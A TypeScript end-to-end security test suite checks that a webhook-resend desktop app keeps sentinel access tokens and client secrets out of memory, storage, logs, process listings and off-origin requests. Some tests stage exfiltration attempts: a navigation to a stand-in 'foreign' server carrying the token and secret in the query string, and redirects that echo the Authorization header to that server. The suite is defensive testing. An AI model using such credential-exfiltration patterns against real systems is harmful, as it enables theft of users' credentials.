/**
 * Where a token and a client secret are not: a sentinel is signed in with, and looked for everywhere. On the wire, two servers listen: the
 * profile's, which sees it, and a foreign one, to which everything a provider can say points.
 */
import { readFile } from 'node:fs/promises';
import type { ServerResponse } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { findChromium } from '../../build/chromium-runtime/browser/find-chromium.ts';
import { filesWith } from '../support/files-with.ts';
import { heapSnapshot } from '../support/heap-snapshot.ts';
import { type LaunchedApp, launchApp } from '../support/launch-app.ts';
import { childrenOf, commandLineOf, environmentOf } from '../support/processes.ts';
import { type RecordedRequest, type RecordingServer, startRecordingServer } from '../support/recording-server.ts';
import { makeTemporaryFolder } from '../support/temporary-folder.ts';

const part = (facts: object) => Buffer.from(JSON.stringify(facts)).toString('base64url');
const tokenOf = (name: string) =>
  [
    part({ alg: 'HS256', typ: 'JWT' }),
    part({ token_type: 'access', user_id: 246, jti: `sentinel-${name}`, iat: 4_000_000_000, exp: 4_000_003_600 }),
    `s3nt1n3l-${name}-${'Qz7'.repeat(9)}`,
  ] as const;

const first = tokenOf('first');
const second = tokenOf('second');
const mistyped = tokenOf('wrong');
const third = tokenOf('third');
/** What the provider gives the third token for, and what it does not. */
const [clientSecret, wrongSecret] = ['cr3d3nt1al', 'm1stak3n'].map((name) => `${name}-${'Wx4'.repeat(9)}`) as [
  string,
  string,
];
const tokenPath = '/v2/finance/auth-token/';
/** What must be nowhere: each token's claims and signature, a piece of them as an echo or a log might cut it, and the secrets. */
const secrets = [first, second, third, mistyped].flatMap(([, claims, signature]) => [
  ...[claims, signature, signature.slice(0, 22)],
  ...[Buffer.from(signature).toString('base64').slice(0, 30), encodeURIComponent(claims)],
]);
secrets.push(...[clientSecret, wrongSecret].flatMap((secret) => [secret, secret.slice(0, 22)]));

const row = (id: number, text: string) => ({
  ...{
    id,
    url: 'https://client.example.com/hook',
    webhook_id: 1,
    type: 'PIX_QR_CODE_CREATED',
    transaction_id: `E${id}`,
  },
  ...{ body: `{"private":"${text}"}`, header: `{"Authorization":"${text}"}`, response: text, status_code: 500 },
  ...{ created_at: '2026-05-12T08:15:30Z', updated_at: '2026-05-12T08:15:30Z' },
});

/** The app works in its own pace. */

describe.skipIf(findChromium() === null)('the token of a person who is signed in', () => {
  let app: LaunchedApp;
  let provider: RecordingServer;
  let foreign: RecordingServer;
  const folder = makeTemporaryFolder();
  const userDataDir = folder.path;
  /** How the provider answers a request that its token lets in; `null`: as usual. */
  let misbehave: ((request: RecordedRequest, response: ServerResponse) => void) | null = null;
  let accepted: readonly string[] = first;

  const json = (response: ServerResponse, value: unknown, status = 200) =>
    response.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(value));

  beforeAll(async () => {
    foreign = await startRecordingServer();
    provider = await startRecordingServer((request, response) => {
      if (request.url === tokenPath) {
        const isRight = request.body.includes(clientSecret);
        return json(
          response,
          isRight ? { access_token: third.join('.') } : { detail: request.body },
          isRight ? 200 : 401,
        );
      }
      // Errors echo what they were sent, as some gateways do.
      if (request.headers.authorization !== `Bearer ${accepted.join('.')}`)
        return json(response, { detail: `Invalid token: ${request.headers.authorization}` }, 401);
      if (misbehave) return misbehave(request, response);
      if (request.method === 'POST') return json(response, { worked: true, detail: 'ID: 1' });
      const isFirst = !request.url.includes('cursor_id');
      const results = isFirst && request.url.startsWith('/v3/webhooks/logs') ? [row(1, 'payer-secret')] : [];
      // The next page is elsewhere, and so is what was sent along.
      const next = `${foreign.origin}/v3/webhooks/logs?cursor_datetime=2026-05-12T08:15:30Z&cursor_id=1`;
      return json(response, { next: isFirst ? next : null, previous: null, results });
    });
    app = await launchApp({ lang: 'en', apiUrl: provider.origin, userDataDir });
  });

  afterAll(async () => {
    await app?.close();
    await Promise.all([provider?.close(), foreign?.close()]);
    folder.remove();
  });

  /** Types a token as a person pastes it. */
  async function enter(token: readonly string[], button: string): Promise<void> {
    const { page } = app;
    await page.getByLabel('Access token', { exact: true }).click();
    await page.keyboard.press('ControlOrMeta+A');
    await page.keyboard.insertText(`Authorization: Bearer ${token.join('.')}`);
    await page.getByRole('button', { name: button, exact: true }).click();
  }

  const grid = () => app.page.getByRole('grid', { name: 'Deliveries' });
  const clean = (text: string, where: string) => {
    for (const secret of secrets) expect(text.includes(secret), `${secret.slice(0, 12)}… in ${where}`).toBe(false);
  };

  it('was typed wrong once, then right', async () => {
    await app.page.getByText('Advanced').waitFor();
    const keychain = app.page.getByLabel('For this session only');
    if (await keychain.isVisible()) await keychain.check();
    await enter(mistyped, 'Sign in');
    await app.page.getByRole('alert').waitFor();
    clean(await app.page.getByRole('alert').innerText(), 'the failure on screen');
    await enter(first, 'Sign in');
    await grid().waitFor();
    await expect.poll(() => grid().getAttribute('aria-rowcount')).toBe('2');
  });

  it('is not in the memory of the page', async () => {
    const heap = await heapSnapshot(app.page);
    expect(heap.length).toBeGreaterThan(1_000_000);
    expect(heap).toContain('PIX_QR_CODE_CREATED');
    clean(heap, 'the heap');
  });

  it('is not in the memory of the page after it was renewed, either', async () => {
    accepted = second;
    await app.page.evaluate(() => window.reenvio.syncNow(null));
    await app.page.getByRole('alert').getByRole('button').click();
    await enter(second, 'Renew');
    await app.page.getByRole('dialog').waitFor({ state: 'detached' });
    await app.page.getByRole('alert').waitFor({ state: 'detached' });
    clean(await heapSnapshot(app.page), 'the heap');
  });

  it('is not in the memory of the page after client credentials were typed wrong, then right', async () => {
    const { page } = app;
    accepted = third;
    await page.evaluate(() => window.reenvio.syncNow(null));
    await page.getByRole('alert').getByRole('button').click();
    await page.getByRole('tab', { name: 'Client credentials' }).click();
    await page.getByLabel('Client ID', { exact: true }).fill('merchant_api@example');
    for (const secret of [wrongSecret, clientSecret]) {
      await page.getByLabel('Client secret', { exact: true }).click();
      await page.keyboard.press('ControlOrMeta+A');
      await page.keyboard.insertText(secret);
      await page.getByRole('dialog').getByRole('button', { name: 'Renew', exact: true }).click();
      if (secret === wrongSecret) await page.getByRole('dialog').getByRole('alert').waitFor();
    }
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await page.getByRole('banner').getByRole('button', { name: 'Stays signed in' }).waitFor();
    clean(await heapSnapshot(page), 'the heap');
  });

  it('is not in the document, its storage, its address or its history', async () => {
    const { page } = app;
    clean(await page.content(), 'the document');
    clean(page.url(), 'the address');
    const stored = await page.evaluate(async () => {
      const databases = await indexedDB.databases();
      const fields = [...document.querySelectorAll('input, textarea')].map((field) => Object(field).value);
      return JSON.stringify([
        { ...localStorage, ...sessionStorage },
        databases,
        document.cookie,
        fields,
        history.state,
      ]);
    });
    clean(stored, 'the storage');
    const cdp = await page.context().newCDPSession(page);
    clean(JSON.stringify(await cdp.send('Page.getNavigationHistory')), 'the history');
    clean(JSON.stringify(await page.context().storageState()), 'cookies');
    await cdp.detach();
  });

  it('was put on no clipboard', () => {
    expect(app.effects.filter(({ effect }) => effect === 'clipboard')).toEqual([]);
  });

  it('is not in what other programs can see of the processes', async () => {
    if (process.platform !== 'linux') return;
    const family = [app.pid, ...(await childrenOf(app.pid))];
    expect(family.length).toBeGreaterThan(2);
    for (const pid of family) {
      clean(commandLineOf(pid), 'a command line');
      clean(environmentOf(pid), 'an environment');
    }
  });

  it('is not in what commands answer, nor in what events bring', async () => {
    const crossed = await app.page.evaluate(async () => {
      const seen: string[] = [];
      for (const subscribe of Object.values(window.reenvio.on))
        (subscribe as (listener: (payload: unknown) => void) => void)((payload) => seen.push(JSON.stringify(payload)));
      const { getSession, getSettings, getSyncState, getAppInfo, getStorage, getDelivery, syncNow } = window.reenvio;
      await syncNow(null);
      const asked = [getSession, getSettings, getSyncState, getAppInfo, getStorage] as ((
        input: null,
      ) => Promise<unknown>)[];
      const answers = await Promise.all([...asked.map((ask) => ask(null)), getDelivery({ id: 1 })]);
      return JSON.stringify(answers) + seen.join('\n');
    });
    expect(crossed).toContain('payer-secret');
    clean(crossed, 'the bridge');
  });

  describe('on the wire', () => {
    const syncFailure = () =>
      app.page.evaluate(async () => {
        const state = await window.reenvio.getSyncState(null);
        return state.ok ? (state.value.failure?.code ?? state.value.phase) : state.failure.code;
      });
    const syncNow = () => app.page.evaluate(() => window.reenvio.syncNow(null));

    it.each([301, 302, 303, 307, 308])('stays with its origin when a GET is redirected by a %d', async (status) => {
      misbehave = (request, response) => {
        const echo = encodeURIComponent(request.headers.authorization ?? '');
        response.writeHead(status, { location: `${foreign.origin}${request.url}&echo=${echo}` }).end();
      };
      await syncNow();
      await expect.poll(syncFailure).toBe('redirected');
      misbehave = null;
      await syncNow();
      await expect.poll(syncFailure).toBe('idle');
      expect(foreign.requests).toEqual([]);
    });

    it.each([301, 302, 303, 307, 308])('stays with its origin when a POST is redirected by a %d', async (status) => {
      let posts = 0;
      misbehave = (request, response) => {
        if (request.method !== 'POST') return json(response, { next: null, previous: null, results: [] });
        posts += 1;
        return response.writeHead(status, { location: `${foreign.origin}/v3/webhooks/resend` }).end();
      };
      const submitted = await app.page.evaluate(async (objectReferenceId) => {
        const session = await window.reenvio.getSession(null);
        const orders = [{ mode: 'object', kind: 'CASHIN', objectReferenceId } as const];
        const preview = await window.reenvio.previewResends({ orders });
        return window.reenvio.submitResends({
          planId: crypto.randomUUID(),
          profileId: (session.ok && session.value.activeProfileId) || '',
          orders,
          note: '',
          ticket: preview.ok ? preview.value.ticket : null,
        });
      }, status);
      const key = submitted.ok ? submitted.value.keys[0] : undefined;
      await expect
        .poll(() =>
          app.page.evaluate(async (asked) => {
            const resend = await window.reenvio.getResend({ key: asked ?? 0 });
            return resend.ok ? resend.value.state : resend.failure.code;
          }, key),
        )
        .toMatch(/^(unknown|needs_decision)$/);
      misbehave = null;
      expect(posts).toBe(1);
      expect(foreign.requests).toEqual([]);
    });

    it('was sent to the origin of the profile alone, in its header alone', () => {
      expect(foreign.requests).toEqual([]);
      expect(provider.requests.length).toBeGreaterThan(15);
      for (const { url, body, headers } of provider.requests) {
        const { authorization, ...others } = headers;
        if (url === tokenPath) {
          expect(authorization).toBeUndefined();
          expect(Object.keys(JSON.parse(body))).toEqual(['client_id', 'client_secret']);
          clean(JSON.stringify(others), 'the headers of a sign-in');
          continue;
        }
        expect(authorization).toMatch(/^Bearer /);
        clean(`${url}\n${body}\n${JSON.stringify(others)}`, 'a request');
        expect(others.cookie).toBeUndefined();
      }
    });
  });

  it('is not in what the log says of an attempt to carry it away', async () => {
    const target = `${foreign.origin}/?stolen=${third.join('.')}&secret=${clientSecret}`;
    await app.page.evaluate((url) => location.assign(url), target);
    const log = () => readFile(join(userDataDir, 'logs', 'main.log'), 'utf8').catch(() => '');
    await expect.poll(log).toContain('navigation.blocked');
    clean(await log(), 'the log');
    expect(foreign.requests).toEqual([]);
  });

  it('is not on the disk, also after the page has crashed', async () => {
    const cdp = await app.page.context().newCDPSession(app.page);
    const crashed = app.page.waitForEvent('crash');
    cdp.send('Page.crash').catch(() => undefined);
    await crashed;
    await app.close();
    expect(await filesWith(userDataDir, secrets)).toEqual([]);
    // What the search finds when there is something to find.
    expect(await filesWith(userDataDir, ['payer-secret'])).not.toEqual([]);
  });

  it('is in no line of the log, and neither is what was sent or answered', async () => {
    const log = await readFile(join(userDataDir, 'logs', 'main.log'), 'utf8').catch(() => '');
    for (const [name, text] of Object.entries({ log, stdout: app.stdout(), stderr: app.stderr() })) {
      clean(text, name);
      expect(text, name).not.toContain('payer-secret');
    }
  });
});
